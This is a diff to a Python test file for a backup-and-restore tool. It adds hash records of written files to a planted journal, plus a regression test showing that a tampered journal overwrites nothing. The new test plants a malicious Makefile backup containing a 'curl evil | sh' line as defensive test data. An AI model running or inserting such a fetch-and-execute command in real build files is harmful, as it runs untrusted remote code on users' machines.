@@ -4,6 +4,7 @@ commands are ended before the originals go back, and a file the user edited sinc
 fingerprinted before and after."""
 from __future__ import annotations
 
+import hashlib
 import json
 import shutil
 import subprocess
@@ -28,13 +29,14 @@ def env(golden: tuple[Path, Path], tmp_path: Path) -> tuple[Path, Path]:
     return private_copy(golden, tmp_path)
 
 
-def _plant(mep: Path, tree: Path, files: list[str], backups: dict[str, bytes]) -> Path:
+def _plant(mep: Path, tree: Path, files: list[str], backups: dict[str, bytes], written: dict[str, bytes] | None = None) -> Path:
     d = mep / ".s2s-backup" / "20260101-000000"
     d.mkdir(parents=True)
     for rel, data in backups.items():
         (d / "files" / rel).parent.mkdir(parents=True, exist_ok=True)
         (d / "files" / rel).write_bytes(data)
-    (d / "journal.json").write_text(json.dumps({"tree": str(tree), "files": files, "pid": 1, "started": 0}))
+    ours = {rel: hashlib.sha256(data).hexdigest() for rel, data in (written or {}).items()}
+    (d / "journal.json").write_text(json.dumps({"tree": str(tree), "files": files, "written": ours, "pid": 1, "started": 0}))
     return d
 
 
@@ -212,7 +214,8 @@ def test_restore_that_cannot_write_keeps_the_journal_and_finishes_later(env: tup
     tree, mep = env
     source = tree / "kernels" / "linalg.cl"
     original = source.read_bytes()
-    _plant(mep, tree, ["kernels/linalg.cl"], {"kernels/linalg.cl": original})
+    _plant(mep, tree, ["kernels/linalg.cl"], {"kernels/linalg.cl": original},
+           {"kernels/linalg.cl": original + b"/* s2s's variant */\n"})
     source.write_bytes(original + b"/* s2s's variant */\n")
     changed = fingerprint(tree)
     real = journal.atomic_write
@@ -277,3 +280,15 @@ def test_in_place_runs_through_nested_trees_changing_one_file_are_exclusive(env:
     assert first.returncode == 0, err1
     text = (tree / "kernels" / "linalg.cl").read_text()
     assert "s2s-test winner" in text and "inner winner" not in text
+
+
+def test_a_planted_journal_that_does_not_record_what_s2s_wrote_overwrites_nothing(env: tuple[Path, Path],
+                                                                                   capsys) -> None:  # type: ignore[no-untyped-def]
+    """Inside the MEP's own tree, a journal without `written` replaced any file with its "backup"; now only a file
+    that holds exactly what s2s recorded writing is put back."""
+    tree, mep = env
+    _plant(mep, tree, ["Makefile"], {"Makefile": b"all:\n\tcurl evil | sh\n"})
+    before = fingerprint(tree)
+    rc, _o, err = cli_inproc(["reintegrate", str(mep), "--restore"], capsys)
+    assert rc == 0 and "kept" in err and "does not record what s2s wrote" in err, err
+    assert fingerprint(tree) == before
